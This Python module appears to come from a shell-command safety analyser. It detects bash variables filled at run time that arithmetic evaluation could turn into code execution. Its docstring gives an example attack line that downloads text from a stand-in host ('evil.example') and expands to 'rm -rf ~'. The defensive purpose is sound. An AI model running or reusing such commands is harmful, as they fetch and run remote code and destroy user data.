"""Variables a line fills with text decided at run time, which bash would run if it evaluated
them as arithmetic.

bash evaluates a variable named in arithmetic (``$((x))``, ``((x))``, ``let x``, ``[[ x -gt 0
]]``, an array index, a substring's offset ``${y:x}``) as an expression in turn, and expands
what a subscript in it holds: ``x=$(curl -s evil.example/x); echo $((x))`` runs whatever the
download spells as ``a[$(rm -rf ~)]``. A value known on the line is judged as bash evaluates
it (:mod:`.parse`); one decided at run time is told here, and arithmetic that names one is
``unknown``.

Run-time text is what a command substitution prints (unless the command only ever prints a
number: ``$(wc -l < f)``, ``$(seq 3)``), what ``read``, ``printf -v``, ``mapfile`` and
``readarray`` store, a ``for`` loop's variable over such words or over a glob (file names are
anyone's text), and any variable copied from one of those. A counter (``i=$((i+1))``) and a
loop over literal words are not: they hold what the line spells.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from tree_sitter import Node

from keyturn.understand.shell._line_scan import ANY_VARIABLE, declares_computed, named_by
from keyturn.understand.shell.source import node_text

# Any variable: the line sets names decided at run time (``export $(…)``).
ANY = ANY_VARIABLE

# Lines that may both fill a variable at run time and evaluate one as arithmetic: the others
# need no look (the tree walk is skipped for them).
_FILLS = re.compile(r"\$\(|`|\b(?:read|printf|mapfile|readarray|for|export|declare)\b")
# (``${y:x}``: a substring's offset and length are arithmetic too.)
# (``declare -i``, ``${!x}``, ``declare -n``: :mod:`._declarations`.)
_EVALUATES = re.compile(
    r"\(\(|\$\[|\[|\blet\b|-(?:eq|ne|lt|le|gt|ge)\b|\$\{[^}]*:(?![-=+?])|\$\{!"
    r"|\b(?:declare|typeset|local)\b"
)

# Builtins that store run-time text in the variables they name, and where ``read``,
# ``mapfile`` and ``readarray`` store it when they name none.
_STORES = frozenset({"read", "mapfile", "readarray", "printf"})
_DEFAULT_STORE = {"read": "REPLY", "mapfile": "MAPFILE", "readarray": "MAPFILE"}
# Programs whose output is only ever a number (with no file operand for ``wc``: ``wc -l f``
# prints the file's name too).
_NUMERIC = frozenset({"wc", "seq", "nproc"})
_GLOB = re.compile(r"[*?]|\[.*\]")


def may_evaluate_run_time_text(command: str) -> bool:
    """Whether ``command`` may evaluate run-time text as arithmetic (cheap, on the text)."""
    return bool(_FILLS.search(command)) and bool(_EVALUATES.search(command))


def run_time_names(nodes: Iterable[Node]) -> frozenset[str]:
    """The variables that the line's ``nodes`` (all of them) may fill with run-time text;
    :data:`ANY` among them when any variable may be."""
    filled: set[str] = set()
    copies: list[tuple[str, Node]] = []
    for node in nodes:
        kind = node.type
        if kind == "variable_assignment":
            name_node, value = node.child_by_field_name("name"), node.child_by_field_name("value")
            if name_node is None or value is None:
                continue
            name = node_text(name_node).partition("[")[0]
            if _prints_text(value):
                filled.add(name)
            else:
                copies.append((name, value))
        elif kind in ("for_statement", "select_statement"):
            var = node.child_by_field_name("variable")
            values = node.children_by_field_name("value")
            if var is not None and any(_prints_text(v) or _globbed(v) for v in values):
                filled.add(node_text(var))
        elif kind == "command":
            filled.update(_stored_by(node))
        elif kind == "declaration_command" and declares_computed(node):
            filled.add(ANY)  # export $(…), declare -n: any name may stand for any value
    # ``y=$x`` copies x's run-time text (a few rounds: copies of copies)
    names = _NamesIn([value for _, value in copies])
    for _ in range(4):
        mentions = names.mentioning(filled)
        grown = {name for (name, _), named in zip(copies, mentions, strict=True) if named}
        grown -= filled
        if not grown:
            break
        filled |= grown
    return frozenset(filled)


def _prints_text(node: Node) -> bool:
    """Whether ``node`` (a word) holds a command substitution that may print other than a
    number, or a process substitution."""
    stack = [node]
    while stack:
        part = stack.pop()
        if part.type == "process_substitution":
            return True
        if part.type == "command_substitution":
            if not _prints_a_number(part):
                return True
            continue
        if part.type == "arithmetic_expansion":
            continue  # a number (what it evaluates is judged where it is)
        stack.extend(part.children)
    return False


def _prints_a_number(substitution: Node) -> bool:
    """``$(wc -l < f)``, ``$(ls | wc -l)``, ``$(seq 5)``, ``$(nproc)``: the last command of the
    substitution only ever prints a number."""
    body = substitution.named_children
    if len(body) != 1:
        return False
    last = body[0]
    if last.type == "pipeline":
        last = last.named_children[-1] if last.named_children else last
    if last.type == "redirected_statement":
        last = last.child_by_field_name("body") or last
    if last.type != "command":
        return False
    name = last.child_by_field_name("name")
    if name is None or node_text(name) not in _NUMERIC:
        return False
    args = [node_text(a) for a in last.children_by_field_name("argument")]
    if node_text(name) == "wc":
        return all(a.startswith("-") for a in args)  # options only: it reads its input
    return all(re.fullmatch(r"-?[\w.]+", a) for a in args)


def _globbed(node: Node) -> bool:
    return node.type in ("word", "concatenation") and bool(_GLOB.search(node_text(node)))


def _stored_by(command: Node) -> set[str]:
    """What ``read``/``mapfile``/``readarray``/``printf -v`` store run-time text in (the names
    :func:`._line_scan.named_by` tells; ``REPLY`` or ``MAPFILE`` when none is named)."""
    name = command.child_by_field_name("name")
    program = node_text(name) if name is not None else ""
    if program not in _STORES:
        return set()
    args = [node_text(a) for a in command.children_by_field_name("argument")]
    named = named_by(program, args)
    return set(named or ([] if program == "printf" else [_DEFAULT_STORE[program]]))


class _NamesIn:
    """The variables each of some words expands (``$x``, ``${x}``, ``${x:-…}``), anywhere in it.

    A copy's value may hold another copy (``a=$((b=$((c=…))))``): each word's nodes are read
    once, in one walk of all of them, rather than once more for every copy around them, which
    made a line of nested copies take time growing with its length squared."""

    def __init__(self, words: list[Node]) -> None:
        # The nodes in post-order (each after every node in it): the names its own expansion
        # names, and where its parent is (-1: one of ``words``, or outside them).
        self._own: list[frozenset[str]] = []
        self._parent: list[int] = []
        self._words: list[int] = []
        index: dict[int, int] = {}
        for word in words:
            if word.id not in index:
                self._walk(word, index)
            self._words.append(index[word.id])

    def _walk(self, word: Node, index: dict[int, int]) -> None:
        # (node, where its parent's children gather, whether its own children were put)
        stack: list[tuple[Node, int, bool]] = [(word, -1, False)]
        gathered: list[list[int]] = []  # each open node's children's places, innermost last
        while stack:
            node, parent, expanded = stack.pop()
            if not expanded and node.id in index:  # a word read already, inside this one
                gathered[parent].append(index[node.id])
                continue
            if not expanded:
                stack.append((node, parent, True))
                gathered.append([])
                here = len(gathered) - 1
                stack.extend((child, here, False) for child in reversed(node.children))
                continue
            place = len(self._own)
            index[node.id] = place
            self._own.append(_own_names(node))
            self._parent.append(-1)
            for child in gathered.pop():
                self._parent[child] = place
            if parent >= 0:
                gathered[parent].append(place)

    def mentioning(self, names: set[str]) -> list[bool]:
        """For each word, whether it expands one of ``names``."""
        found = [False] * len(self._own)
        for place, own in enumerate(self._own):
            if found[place] or (own and not own.isdisjoint(names)):
                found[place] = True
                parent = self._parent[place]
                if parent >= 0:
                    found[parent] = True
        return [found[place] for place in self._words]


def _own_names(part: Node) -> frozenset[str]:
    if part.type not in ("simple_expansion", "expansion"):
        return frozenset()
    return frozenset(
        node_text(child) for child in part.named_children if child.type == "variable_name"
    )
